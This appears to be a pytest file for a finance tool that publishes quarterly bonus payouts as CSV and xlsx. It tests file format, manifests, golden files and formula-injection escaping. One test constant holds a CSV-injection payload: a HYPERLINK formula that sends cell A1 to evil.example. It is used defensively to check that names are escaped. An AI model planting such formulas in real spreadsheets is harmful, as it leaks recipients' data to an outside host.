"""The finance files, byte by byte: the CSV format, the xlsx sheets, formula injection,
reproducibility, a real spreadsheet application, and the demo quarter's golden files.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal as D
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifecycle_data import CHECKER, EXPECTED_CSV_ROWS, data, write_book
from workbook.calculate import PAYOUT_COLUMNS, PayoutRow
from workbook.cli import main
from workbook.ledger import Entry
from workbook.publish import DANGEROUS_FIRST, csv_bytes, inert, manifest, xlsx_bytes

GOLDEN = Path(__file__).parent / "golden"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def publish(tmp_path: Path, sheets: dict | None = None) -> Path:
    book = write_book(tmp_path / "q3.xlsx", sheets)
    assert main(["calculate", str(book), "--quiet"]) == 0
    assert main(["lock", str(book), "--by", CHECKER]) == 0
    assert main(["publish", str(book)]) == 0
    return tmp_path / "bonusbook-data" / "published" / "2026Q3"


def sheet_xml(xlsx: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(xlsx) as z:
        return {n: z.read(n) for n in z.namelist()}


# ---------------------------------------------------------------- CSV
def test_csv_is_utf8_bom_crlf_fixed_columns_two_decimals_sorted(tmp_path):
    raw = (publish(tmp_path) / "payout-2026Q3.csv").read_bytes()
    assert raw[:3] == b"\xef\xbb\xbf" and b"\r\n" in raw and raw.count(b"\r\n") == raw.count(b"\n")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
    assert tuple(rows[0]) == PAYOUT_COLUMNS
    body = rows[1:]
    assert [r[:9] for r in body] == EXPECTED_CSV_ROWS  # worked by hand in lifecycle_data
    assert all(re.fullmatch(r"-?\d+\.\d{2}", r[7]) for r in body)
    assert [(r[2], r[5]) for r in body] == sorted((r[2], r[5]) for r in body)
    assert all(r[8] == "CNY" for r in body) and not any("合计" in r[2] or r[2] == "" for r in body)


@pytest.mark.parametrize("first", list(DANGEROUS_FIRST))
def test_each_dangerous_first_character_is_neutralised(first):
    assert inert(first + "SUM(1)") == "'" + first + "SUM(1)"


@given(st.text())
def test_inert_text_never_starts_a_formula_and_keeps_the_text(text):
    out = inert(text)
    assert not out.startswith(DANGEROUS_FIRST)
    assert out == text or out == "'" + text


def test_a_formula_name_is_inert_in_the_csv_and_the_xlsx(tmp_path):
    emps = data()["Employees"]
    emps[0]["name"] = EVIL_NAME
    emps[1]["department"] = "+86 直营部"
    folder = publish(tmp_path, data(Employees=emps))
    rows = list(csv.reader(io.StringIO((folder / "payout-2026Q3.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1][3] == "'" + EVIL_NAME and rows[3][4] == "'+86 直营部"
    wb = openpyxl.load_workbook(folder / "payout-2026Q3.xlsx")
    cell = wb["Payout"]["D2"]
    assert cell.data_type == "s" and cell.value == "'" + EVIL_NAME  # a string cell, never a formula
    assert wb["Summary"]["B2"].data_type == "s" and wb["Summary"]["B2"].value == "'" + EVIL_NAME
    for name, xml in sheet_xml(folder / "payout-2026Q3.xlsx").items():
        assert b"<f>" not in xml and b"<f " not in xml, name
        assert not name.lower().endswith(".bin"), name  # no VBA
    # and in the workbook's own output sheets too: written as text
    book = openpyxl.load_workbook(tmp_path / "q3.xlsx")
    payout = next(ws for ws in book.worksheets if "Payout" in ws.title)
    hit = [c for row in payout.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hit and all(c.data_type == "s" for c in hit)


# ---------------------------------------------------------------- xlsx
def test_xlsx_has_payout_summary_and_manifest_sheets(tmp_path):
    folder = publish(tmp_path)
    wb = openpyxl.load_workbook(folder / "payout-2026Q3.xlsx")
    assert wb.sheetnames == ["Payout", "Summary", "Manifest"]
    pay = list(wb["Payout"].iter_rows(values_only=True))
    assert pay[0] == PAYOUT_COLUMNS and len(pay) == 5
    assert [r[7] for r in pay[1:]] == [1000, 1000, -800, 500]  # numeric, as the CSV: 1000.00, 1000.00, −800.00, 500.00
    assert all(isinstance(r[7], (int, float)) for r in pay[1:])
    assert wb["Payout"]["H2"].number_format == "0.00"
    summary = list(wb["Summary"].iter_rows(values_only=True))
    # per employee: E1 1,000 + 1,000 = 2,000 (2 rows); E2 −800 + 500 = −300 (2 rows)
    assert summary[1][:5] == ("E1", "王伟", "销售一部", 2, 2000) and summary[2][:5] == ("E2", "李娜", "销售二部", 2, -300)
    # per item: NC 1,000; PN −800; SA 1,000 + 500 = 1,500; total 1,700
    items = {r[0]: r[4] for r in summary[4:] if r and r[0]}
    assert items == {"item_code": "amount", "NC": 1000, "PN": -800, "SA": 1500, "合计 total": 1700}
    m = json.loads((folder / "manifest.json").read_text("utf-8"))
    sheet = {r[0]: r[1] for r in wb["Manifest"].iter_rows(min_row=2, values_only=True)}
    assert sheet["ledger_entry_hash"] == m["ledger_entry_hash"] and sheet["total_amount"] == "1700.00"


def test_manifest_holds_every_contract_field(tmp_path):
    m = json.loads((publish(tmp_path) / "manifest.json").read_text("utf-8"))
    for key in ("period", "published_at", "prepared_by", "locked_by", "input_sha256", "policy_sha256", "payout_csv_sha256",
                "rows", "total_amount", "totals_by_item", "engine_version", "ledger_entry_hash", "previous_entry_hash"):
        assert key in m, key
    assert re.fullmatch(r"[0-9a-f]{64}", m["input_sha256"]) and re.fullmatch(r"[0-9a-f]{64}", m["previous_entry_hash"])
    assert dt.datetime.fromisoformat(m["published_at"]).tzinfo is not None


def test_files_are_a_pure_function_of_rows_and_entry():
    rows = [PayoutRow("2026Q3", "2026-10", "E1", "王伟", "销售一部", "SA", "客户满意度奖励", D("1000.00"), "CNY", "满意度 95%")]
    payload = {"period": "2026Q3", "payout_csv_sha256": "x", "total_amount": "1000.00"}
    e = Entry(2, "测试公司", "2026Q3", "publish", "财务", "2026-10-08T09:00:00+00:00", payload, "a" * 64, "b" * 64)
    assert xlsx_bytes(rows, manifest(e)) == xlsx_bytes(rows, manifest(e))
    assert csv_bytes(rows) == csv_bytes(list(reversed(rows)))


# ---------------------------------------------------------------- a real spreadsheet application
def test_libreoffice_opens_the_published_payout(tmp_path):
    soffice = shutil.which("soffice")
    if not soffice:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is required in CI")
        pytest.skip("LibreOffice not installed")
    folder = publish(tmp_path)
    out = tmp_path / "lo"
    proc = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless", "--convert-to",
                           "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out), str(folder / "payout-2026Q3.xlsx")],
                          capture_output=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO((out / "payout-2026Q3.csv").read_text("utf-8-sig"), newline="")))
    assert [r[:9] for r in rows[1:]] == EXPECTED_CSV_ROWS  # the first sheet, as LibreOffice shows it


# ---------------------------------------------------------------- golden: the demo quarter
VOLATILE = ("published_at", "ledger_entry_hash", "previous_entry_hash", "lock_entry_hash", "locked_at", "payout_xlsx_sha256")
# The hashes of the whole input book and of the effective policy change whenever the template gains a
# Settings key or the engine a policy default, without a fen of the payout moving: checked for form
# here (and for their meaning by the lock and verify tests), not frozen in the golden file.
BOOK_HASHES = ("input_sha256", "policy_sha256")


def normalised_manifest(path: Path) -> dict:
    m = json.loads(path.read_text("utf-8"))
    for k in BOOK_HASHES:
        assert re.fullmatch(r"[0-9a-f]{64}", m[k]), k
    return {k: "<volatile>" if k in VOLATILE else "<sha256>" if k in BOOK_HASHES else v for k, v in m.items()}


@pytest.fixture(scope="module")
def demo_published(tmp_path_factory):
    from workbook.demo import run_demo

    folder = tmp_path_factory.mktemp("demo")
    assert run_demo(folder) == 0
    return folder / "bonusbook-data" / "published" / "2025Q4"


def test_demo_quarter_csv_matches_the_reviewed_golden(demo_published):
    got = (demo_published / "payout-2025Q4.csv").read_bytes()
    want = (GOLDEN / "payout-2025Q4.csv").read_bytes()
    assert got == want, "payout CSV changed: review tests/golden/README.md before regenerating"


def test_demo_quarter_manifest_matches_the_reviewed_golden(demo_published):
    got = normalised_manifest(demo_published / "manifest.json")
    want = json.loads((GOLDEN / "manifest-2025Q4.json").read_text("utf-8"))
    assert got == want
    import hashlib

    assert got["payout_csv_sha256"] == hashlib.sha256((GOLDEN / "payout-2025Q4.csv").read_bytes()).hexdigest()


payout_rows = st.lists(st.builds(
    lambda e, code, fen, name: PayoutRow("2026Q3", "2026-10", f"E{e:03d}", name, "销售部", code, code, D(fen) / 100, "CNY", "依据"),
    st.integers(1, 40), st.sampled_from(["NC", "SA", "PN", "KA", "ADJ"]), st.integers(-10**9, 10**9), st.text(max_size=8)),
    max_size=30, unique_by=lambda r: (r.employee_id, r.item_code))


@given(payout_rows)
def test_csv_rows_reconcile_with_the_manifest_totals(rows):
    from workbook.publish import totals

    parsed = list(csv.DictReader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline="")))
    amounts = [D(r["amount"]) for r in parsed]
    total, by_item = totals(rows)
    assert sum(amounts, D(0)) == total == sum(by_item.values(), D(0))
    assert all(re.fullmatch(r"-?\d+\.\d{2}", r["amount"]) for r in parsed)
    assert [(r["employee_id"], r["item_code"]) for r in parsed] == sorted((r.employee_id, r.item_code) for r in rows)
    assert all(not r["employee_name"].startswith(DANGEROUS_FIRST) for r in parsed)
